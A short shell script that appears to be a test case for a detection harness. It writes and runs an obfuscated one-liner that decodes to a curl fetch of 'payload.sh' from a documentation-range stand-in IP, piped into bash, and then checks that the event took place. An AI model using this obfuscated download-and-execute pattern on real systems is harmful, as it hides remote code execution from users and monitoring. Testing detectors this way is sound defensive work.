#!/bin/sh
. /opt/case/case.sh

cat >/tmp/o.sh <<'END'
a=$'\143\165\162\154'; b=${PATH:0:1}; c=$'\x68\x74\x74\x70'; d=(203 0 113 10); IFS=.
"$a" -s "$c:$b$b${d[*]}${b}payload${IFS}sh" | /b?n/b?sh
END
bash /tmp/o.sh
wait_for /tmp/reached
took_place
